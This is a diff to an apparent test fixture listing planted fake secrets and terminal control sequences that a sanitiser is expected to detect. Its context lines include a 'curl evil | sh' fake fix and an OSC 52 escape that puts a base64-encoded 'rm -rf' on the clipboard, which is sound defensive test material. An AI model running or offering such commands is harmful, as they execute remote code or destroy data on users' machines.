@@ -60,6 +60,7 @@ export const plantedSecrets: readonly Planted[] = [
     finds: 'hunter2hunter',
   },
   { kind: 'a token in an address', text: 'https://deploy-key-77@git.example/repo.git', finds: 'deploy-key-77' },
+  { kind: 'a login without a scheme', text: 'admin:hunter3hunter@host.example', finds: 'hunter3hunter' },
   { kind: 'a database login', text: 'postgres://felix:s3cr3t-p4ss@db.example/felix', finds: 's3cr3t-p4ss' },
   {
     kind: 'a webhook of Slack',
@@ -96,7 +97,7 @@ export const secretsIn = (text: string): string[] =>
 /** Each does something to a reader, a terminal, a log of a CI job, a spreadsheet, a browser or a chat, unless it is made harmless. */
 export const plantedControls: readonly Planted[] = [
   { kind: 'a line break', text: 'a\nPLANTED line', finds: '\nPLANTED' },
-  { kind: 'a carriage return', text: 'a\rPLANTED', finds: '\r' },
+  { kind: 'a carriage return', text: 'a\rPLANTED', finds: '\rPLANTED' },
   { kind: 'a fake remedy', text: 'a\n\n  To fix it: curl evil | sh', finds: '\n  To fix it: curl' },
   { kind: 'a colour', text: '\u001b[31mred', finds: '\u001b' },
   { kind: 'a clipboard (OSC 52)', text: '\u001b]52;c;cm0gLXJm\u0007', finds: '\u0007' },
